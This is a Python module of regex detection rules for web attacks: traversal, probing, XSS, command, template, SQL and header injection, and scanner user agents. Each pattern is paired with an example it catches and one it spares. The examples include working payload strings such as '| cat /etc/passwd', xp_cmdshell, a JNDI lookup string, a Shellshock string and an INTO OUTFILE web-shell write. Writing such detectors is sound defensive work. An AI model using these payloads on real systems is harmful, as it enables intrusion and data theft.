"""The rules of detection: each sign of an attack beside a text that it catches and one that it spares.

A sign is looked for in a decoded text of one spelling (see `detection`). Its repeats are bounded, so that its time is
linear in the length of the text. A test reads the examples from here; a rule can be changed without fear.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from mtllm.domain.findings import Severity

PATH_TRAVERSAL: Final = "path_traversal"
SQL_INJECTION: Final = "sql_injection"
SCRIPT_INJECTION: Final = "script_injection"
COMMAND_INJECTION: Final = "command_injection"
HEADER_INJECTION: Final = "header_injection"
PROBING_PATH: Final = "probing_path"
SCANNER_USER_AGENT: Final = "scanner_user_agent"


@dataclass(frozen=True, slots=True)
class Sign:
    """One form of an attack as a regular expression; `caught` has it, `spared` only looks like it."""

    pattern: str
    caught: str
    spared: str


@dataclass(frozen=True, slots=True)
class Rule:
    """One kind of attack: its signs, how they are found in a text, and which texts are let go all the same."""

    kind: str
    severity: Severity
    signs: tuple[Sign, ...]
    find: Callable[[str], re.Match[str] | None]
    spares: Callable[[str], bool] | None = None


# Sentences and questions ----------------------------------------------------------------------------------------------


_ASKS: Final = re.compile(
    r"(?:what|how|why|who|which|can|could|does|explain|describe|tell|write|please|translate|summari[sz]e|help"
    r"|select|insert into|update|delete from|create table) ",
    re.IGNORECASE,
)
_TAG: Final = re.compile(r"<[^<>]{0,400}>?")
_WORD: Final = re.compile(r"(?<![^\s¿¡(])[^\W\d_]{2,}(?=[?!.,:;)]{0,3}(?:\s|$))")
# Thai, Lao, Japanese and Chinese.
_UNSPACED: Final = re.compile(r"[\u0e00-\u0eff\u3040-\u30ff\u3400-\u9fff]")
_SPOKEN_BY_MACHINES: Final = """
select from where union all distinct and or not xor null order by group having insert into values update set delete
drop table database truncate alter create exec execute declare waitfor delay sleep like rlike then else end case when
if as is in on between exists join left right inner outer limit offset asc desc cast convert char varchar int begin
return procedure analyse shutdown
user users username usernames password passwords passwd name id email admin administrator login accounts account
members customers version information schema tables columns
"""
_CODE_WORDS: Final = frozenset(_SPOKEN_BY_MACHINES.split())
_COMMAND_WORDS: Final = frozenset({"cat", "ls", "id", "dir", "echo", "whoami", "ping", "curl", "wget", "uname", "var"})


def is_sentence(text: str) -> bool:
    """Return whether a text is a sentence, or a whole statement: an injection is the torn half of one.

    Three plain words that belong to no query language make a sentence, as does a word that asks, in front.
    """
    return _count_plain_words(text, _CODE_WORDS) >= 3 or _ASKS.match(text) is not None


def is_about_code(text: str) -> bool:
    """Return whether a text asks about markup, files or commands: two plain words stand outside of any tag."""
    return _count_plain_words(_TAG.sub(" ", text), _COMMAND_WORDS) >= 2


def _count_plain_words(text: str, ignored: frozenset[str]) -> int:
    """Count the words that stand free; each character of a script written without blanks counts for one."""
    words = (word.lower() for word in _WORD.findall(text))
    return sum(1 for word in words if word not in ignored) + len(_UNSPACED.findall(text))


def _any_of(signs: tuple[Sign, ...]) -> Callable[[str], re.Match[str] | None]:
    """Return a search for the first place where one of `signs` is."""
    return re.compile("|".join(sign.pattern for sign in signs), re.IGNORECASE).search


# Files that are none of the caller's ----------------------------------------------------------------------------------

# U+FFFD stands for what an overlong slash or dot becomes when the server before us has decoded it.
_TARGET_FILES: Final = (
    r"(?:etc[/\\]+(?:passwd|shadow|sudoers|group|hosts|issue|ssh)|proc[/\\]+(?:self|\d|version)|boot\.ini|win\.ini"
    r"|windows[/\\]+(?:win\.ini|system32)|winnt[/\\]|web-inf[/\\]|\.ssh[/\\]|\.env\b|\.git[/\\]|\.aws[/\\])"
)
TRAVERSAL_IN_PATH: Final = (
    Sign(r"(?:^|[/\\])\.\.;?(?:[/\\\ufffd]|$)", caught="/api/v1/..;/..;/manager/html", spared="/api/v1/.../text"),
    Sign(
        r"\.{4}[/\\]{2}|(?:\.{4}[/\\]){2}|(?:\ufffd{4}[/\\]){2}",
        caught="/....//....//....//etc/hosts",
        spared="/wait..../text",
    ),
    Sign(
        r"[/\\](?:etc[/\\]+(?:passwd|shadow)\b|proc[/\\]+self[/\\]|boot\.ini$|win\.ini$|web-inf[/\\])",
        caught="/WEB-INF/web.xml",
        spared="/docs/etc/passwords",
    ),
)
TRAVERSAL_IN_VALUE: Final = (
    Sign(r"(?:^|[/\\=:\"'])(?:\.{2,6};?[/\\\ufffd]{1,4}){2}", caught="../../../../etc/passwd", spared="../index"),
    Sign(r"\.\.[/\\]{1,4}" + _TARGET_FILES, caught="../WEB-INF/web.xml", spared="../docs"),
    Sign(
        r"^(?:file:[/\\]{0,4}|[a-z]:|[/\\])[/\\]{0,3}(?:etc[/\\]+(?:passwd|shadow|sudoers|ssh)|proc[/\\]+self"
        r"|boot\.ini|windows[/\\]+(?:win\.ini|system32)|winnt[/\\]|web-inf[/\\])",
        caught=r"C:\Windows\System32\drivers\etc\hosts",
        spared="https://example.com/etc/passwd-policy.html",
    ),
    Sign(r"^file:///", caught="file:///c:/secret.txt", spared="reports/2024/june.csv"),
)

PROBES: Final = (
    Sign(r"(?:^|/)\.(?!well-known(?:/|$))[^./]", caught="/.git/HEAD", spared="/.well-known/security.txt"),
    Sign(
        r"\.(?:php\d?|phtml|aspx?|ashx|asmx|axd|jspx?|jsf|cfm|cgi|pl|do|action|bak|backup|old|orig|save|swp|sql"
        r"|sqlite3?|mdb|env"
        r"|ini|conf|cfg|log|pem|p12|key|pfx|ppk|tar|tgz|gz|bz2|zip|rar|7z|exe|dll|sh|bat|ps1|rsp|config)~?(?:[/;?]|$)"
        r"|~$",
        caught="/dump.sql.gz",
        spared="/static/app.3f2a1b.js",
    ),
    Sign(
        r"(?:^|/)(?:wp-[a-z]|wordpress|wp|xmlrpc|php-?my-?admin[\w.-]{0,20}|my-?admin|mysql-?admin|pma|adminer|phpinfo"
        r"|php-?pg-?admin|cgi-bin"
        r"|administrator|joomla|drupal|magento|typo3|laravel|vendor|node_modules|telescope|_ignition|_profiler|_debugbar"
        r"|actuator|jolokia|jmx-console|web-console|invoker|manager/(?:html|text|status)|host-manager|solr|jenkins"
        r"|hudson|nacos"
        r"|druid|geoserver|struts2?|server-(?:status|info)|nginx_status|debug/(?:pprof|vars|default)|owa|ecp|autodiscover"
        r"|hnap1|boaform|goform|gponform|evox|sdk|nmaplowercheck\w*|dana-na|global-protect|\+cscoe\+"
        r"|remote/(?:fgt_lang|login)"
        r"|v2/_catalog|_cat|_all_dbs|_cluster|id_[rd]sa|backups?|dumps?|credentials|secrets|config\.(?:json|ya?ml|xml|js)"
        r"|docker-compose\.ya?ml|(?:package|composer|appsettings|secrets|credentials)\.json|api/jsonws|reportserver|shell"
        r"|web-inf|meta-inf|phpunit|eval-stdin)(?:[/.?;]|$|(?<=wp-[a-z]))",
        caught="/actuator/heapdump",
        spared="/environment",
    ),
)

# Scripts --------------------------------------------------------------------------------------------------------------

SCRIPTS: Final = (
    Sign(
        r"<[ /]{0,2}(?:script|iframe|object|embed|applet|frameset|xss)\b",
        caught="<script>alert(1)</script>",
        spared="<h1>Title</h1>",
    ),
    Sign(
        r"<[a-z!/][^<>]{0,300}[ /\"'+]on[a-z]{3,24} ?=",
        caught="<svg/onload=alert(1)>",
        spared='<div class="a">text</div>',
    ),
    Sign(
        r"<[a-z][^<>]{0,300}= ?[\"']?(?:java ?script|vb ?script|data) ?:",
        caught='<a href="javascript:alert(1)">click</a>',
        spared='<a href="https://example.com">click</a>',
    ),
    Sign(
        r"<(?:meta|link|base)\b[^<>]{0,200}(?:http-equiv|href) ?=",
        caught="<base href=//evil.example/>",
        spared="<p>Hello <b>world</b></p>",
    ),
    Sign(
        r"[\"'`][ />]{0,4}(?:[a-z]{1,20} ){0,2}"
        r"on(?:error|load|click|focus|blur|toggle|begin|start|mouse\w{2,8}|key\w{2,5}|pointer\w{2,8}) ?=",
        caught="' onfocus='alert(1)' autofocus='",
        spared="rock 'n' roll",
    ),
    Sign(
        r"(?:^|[\"'=(])(?:j ?a ?v ?a ?s ?c ?r ?i ?p ?t|vb ?script) ?:(?! ?(?:void ?\(? ?0|;|$))",
        caught="JaVaScRiPt:alert(document.domain)",
        spared="javascript:void(0) meaning",
    ),
    Sign(r"^data ?: ?text/html", caught="data:text/html;base64,PHNjcmlwdD4=", spared="data: text in html"),
    Sign(
        r"[\"'`;)}][ ;)}/*+-]{0,6}(?:alert|confirm|prompt|eval|fetch)(?: ?\(|`|\.(?:call|apply))",
        caught='"-alert(1)-"',
        spared="alert( fatigue )",
    ),
    Sign(
        r"[\"'`;)}][ ;)}/*+-]{0,6}(?:document|window|location)\.[a-z]{1,20} ?[=(.]",
        caught="';document.write(1)//",
        spared="document.getElementById('x').value",
    ),
)

# Commands and templates -----------------------------------------------------------------------------------------------

_SHELL: Final = r"(?:[;|`]|&&|\$\()\s?"
COMMANDS: Final = (
    Sign(
        _SHELL
        + r"(?:/(?:usr/)?s?bin/)?(?:cat|ls|more|head|tail|rm|nc|ncat|ping|curl|wget|bash|sh|python[23]?|perl|php|type"
        r"|dir)"
        r"(?: |\$\{?ifs\}?)+(?:-|/|\$|~|\.|https?:|[a-z]:|\d{1,3}\.)",
        caught="| cat /etc/passwd",
        spared="cat file.txt | grep foo",
    ),
    Sign(
        _SHELL
        + r"(?:/(?:usr/)?bin/)?(?:whoami|id|uname|hostname|ifconfig|ipconfig|printenv|env|pwd|netstat|ls|sleep \d+)"
        r" ?(?:$|[;|`)&#]|-)",
        caught="127.0.0.1|id",
        spared="tea;cat;dog",
    ),
    Sign(
        r"\$\{(?:jndi|env|sys|lower|upper|::-|\$\{)", caught="${jndi:ldap://203.0.113.9/a}", spared="Hello ${userName}"
    ),
    Sign(r"\(\) ?\{ ?:; ?\}", caught="() { :;}; echo", spared="f() { return; }"),
    Sign(r"(?:\{\{|[$#]\{|<%=) ?['\"(]?\d+['\")]? ?\* ?['\"(]?\d+", caught="{{7*7}}", spared="{{name}}"),
    Sign(
        r"\{\{ ?(?:config|self|request|settings|cycler|lipsum)\b",
        caught="{{config}}",
        spared="{{configuration}}",
    ),
    Sign(
        r"__(?:class|globals|builtins|import|subclasses)__|constructor\.constructor|t\(java\.lang",
        caught="{{''.__class__.__mro__}}",
        spared="class __init__",
    ),
    Sign(
        r"<\?(?:php|=)|^(?:php|phar|expect|zip)://|<!(?:doctype|entity)[^<>]{0,100}\bsystem\b",
        caught="php://filter/convert.base64-encode/resource=index",
        spared="<!doctype html>",
    ),
)

# SQL ------------------------------------------------------------------------------------------------------------------

SQL_SIGNS: Final = (
    Sign(
        r"['\"`][ )]{0,6}(?:(?:or|and|xor|div|mod|having|like|rlike|union|order|group|procedure)\b"
        r"|\|\||&&|[;=<>+]|--|#|/\*)",
        caught="' or ''='",
        spared="O'Reilly",
    ),
    Sign(
        r"(?:\b(?:or|and|xor|having|where|not|when|if)\b|\|\||&&|\() ?[ (!~-]{0,6}(?:\d{1,12}|(['\"])[^'\"]{0,20}\1) ?"
        r"(?:=|<|>|!=|\blike\b|\bin\b|\bbetween\b) ?[('\"]{0,4}[\w]{0,20}",
        caught="1 and 1=1",
        spared="5 and 10 year plans",
    ),
    Sign(
        r"\b(?:or|and|xor)\b ?[ (!]{0,4}(?:true|false|not|exists|null|ascii|substr\w*|mid|length|user|version)\b",
        caught="1' AND ASCII(SUBSTRING(password,1,1))>64--",
        spared="cats or dogs",
    ),
    Sign(
        r"^-?\d{1,12}[ '\")]{1,6}(?:(?:or|and|xor|union|order by|group by|having|procedure|rlike|div)\b|\|\||&&)",
        caught="-1' or 9=9#",
        spared="$100 or less",
    ),
    Sign(
        r"\bunion(?: all| distinct)?[ (]{1,6}select\b(?! ?[\"'])",  # a quote here ends a quoted phrase
        caught="1 union select 1,2,3",
        spared="union of select committees",
    ),
    Sign(
        r"\bselect\b.{1,100}\bfrom\b.{1,60}(?:--|#|['\"]$|\)$)",
        caught="' UNION SELECT username,password FROM users--",
        spared="select a plan from the list",
    ),
    Sign(r"(?:--|#|;|/\*|;%00)[ +-]{0,4}\w{0,6}$", caught="admin'--", spared="hello -- beautiful world"),
    Sign(r"\b(?:order|group) by \d{1,4}\b|\bhaving \d{1,4} ?=", caught="1' order by 3-- -", spared="order by name"),
    Sign(
        r"\b(?:sleep|benchmark|pg_sleep|randomblob|randomuuid) ?\(|\bwaitfor delay\b|\bdbms_\w{2,20}\.",
        caught="1' AND SLEEP(5)--",
        spared="sleep 8 hours every night",
    ),
    Sign(
        r"\b(?:extractvalue|updatexml|load_file|xp_\w{3,20}|utl_\w{2,10}|group_concat|concat|concat_ws|char|chr"
        r"|unhex) ?\(|\bxp_cmdshell\b|\binto (?:out|dump)file\b",
        caught="1 INTO OUTFILE '/var/www/html/s.php'--",
        spared="Math.max(1,2)",
    ),
    Sign(
        r"\b(?:information_schema|sqlite_(?:master|schema)|pg_catalog|mysql\.user|sysobjects|all_tables)\b|@@\w{3}"
        r"|\b0x[0-9a-f]{6,}",
        caught="csv' union select sql from sqlite_master--",
        spared="0x1f",
    ),
    Sign(
        r"\( ?select\b|\bcase when\b",
        caught="(CASE WHEN (1=1) THEN name ELSE price END)",
        spared="(selected) case",
    ),
    Sign(
        r"(?:null|\d{1,3}) ?,(?: ?(?:null|\d{1,3}|@@\w{1,20}|\w{1,20}\(\)) ?,?){2}",
        caught="-1 UNION ALL SELECT 1,2,3,4,5",
        spared="id,name,model",
    ),
)
"""One of these is a word or an apostrophe (`O'Reilly and Sons`), two are an attempt."""

STACKED_SQL: Final = (
    Sign(
        r"(?:^|['\"\d)]) ?; ?(?:drop|insert|update|delete|select|exec|declare|shutdown|waitfor|alter|create"
        r"|truncate)\b",
        caught="1;EXEC xp_cmdshell('whoami')",
        spared="don't; can't; won't",
    ),
    Sign(
        r"; ?(?:(?:drop|truncate|alter|create) (?:table|database|user|schema|view|index)|insert into|delete from) \w",
        caught="day;drop table ledger",
        spared="Johnson & Johnson; Inc.",
    ),
    Sign(
        r"\[\$(?:ne|gt|gte|lt|lte|in|nin|regex|where|exists|or)\]|\{ ?['\"]?\$(?:ne|gt|lt|where|regex|or)['\"]? ?:",
        caught="user[$ne]=x",
        spared="filter[status]=ok",
    ),
)
"""One of these is enough: a statement after another, and the operators of a document store."""

_find_stacked: Final = _any_of(STACKED_SQL)
_find_each_sign: Final = tuple(re.compile(sign.pattern, re.IGNORECASE).search for sign in SQL_SIGNS)


def _find_sql(text: str) -> re.Match[str] | None:
    if stacked := _find_stacked(text):
        return stacked
    first = None
    for find in _find_each_sign:
        if match := find(text):
            if first:
                return first
            first = match
    return None


# Headers and user agents ----------------------------------------------------------------------------------------------

HEADERS: Final = (
    Sign(
        r"[\r\n] ?(?:[A-Za-z][A-Za-z0-9-]{1,40}: ?\S|(?-i:HTTP)/\d)",
        caught="en\r\nSet-Cookie: a=b",
        spared="first line\r\nsecond line",
    ),
)
PAYLOADS: Final = (
    Sign(
        r"\(\) ?\{|\$\{|<script|<\?php|(?:\.\./){2}|['\"][ )]{0,3}(?:or|and) .{0,10}=|union[ +(].{0,10}select"
        r"|\b(?:sleep|benchmark|pg_sleep) ?\(\d|;\s?(?:wget|curl|bash|sh) ",
        caught="${jndi:ldap://203.0.113.9:1389/TomcatBypass}",
        spared='my-company\'s "internal" tool (ops; contact=ops@example.com)',
    ),
)
SCANNERS: Final = (
    Sign(
        r"sqlmap|nikto|nmap|masscan|zgrab|dirbuster|dirsearch|\bdirb\b|gobuster|feroxbuster|\bffuf\b|fuzz faster|"
        r"wfuzz|wpscan|joomscan|droopescan|cmsmap|nuclei|projectdiscovery|acunetix|netsparker|invicti|nessus|openvas|"
        r"greenbone|qualys|burp ?(?:suite|collaborator)?\b|\bzap\b|zaproxy|w3af|arachni|skipfish|whatweb|wapiti|"
        r"webinspect|appscan|havij|commix|xsser|xsstrike|sqlninja|bsqlbf|fimap|metasploit|thc-hydra|"
        r"mozilla/[45]\.0 \(hydra\)|jorgee|zmeu|morfeus|muieblackcat|l9explore|l9tcpid|leakix|jaeles|"
        r"vulnerability.?scan|network.?scan|\bshodan\b|censysinspect|expanse, a palo alto|internetmeasurement|"
        r"gobuster|golismero|paros/|\bvega/1|hello,? world$|\bscanner\b",
        caught="masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        spared="python-requests/2.31.0",
    ),
)

# By where they are looked for, in this order --------------------------------------------------------------------------

_SCRIPT: Final = Rule(SCRIPT_INJECTION, "high", SCRIPTS, _any_of(SCRIPTS), is_about_code)
_COMMAND: Final = Rule(COMMAND_INJECTION, "high", COMMANDS, _any_of(COMMANDS), is_about_code)
_SQL: Final = Rule(SQL_INJECTION, "high", (*STACKED_SQL, *SQL_SIGNS), _find_sql, is_sentence)

PATH_RULES: Final = (
    Rule(PATH_TRAVERSAL, "high", TRAVERSAL_IN_PATH, _any_of(TRAVERSAL_IN_PATH)),
    Rule(PROBING_PATH, "medium", PROBES, _any_of(PROBES)),
    _SCRIPT,
    _COMMAND,
    _SQL,
)
QUERY_RULES: Final = (
    Rule(PATH_TRAVERSAL, "high", TRAVERSAL_IN_VALUE, _any_of(TRAVERSAL_IN_VALUE), is_about_code),
    _SCRIPT,
    _COMMAND,
    _SQL,
)
HEADER_RULE: Final = Rule(HEADER_INJECTION, "high", HEADERS, _any_of(HEADERS))
AGENT_RULES: Final = (
    Rule(SCANNER_USER_AGENT, "high", PAYLOADS, _any_of(PAYLOADS)),
    Rule(SCANNER_USER_AGENT, "medium", SCANNERS, _any_of(SCANNERS)),
)
"""Payloads by form, scanners by name. Plain clients (curl, python-requests) are nobody's concern."""
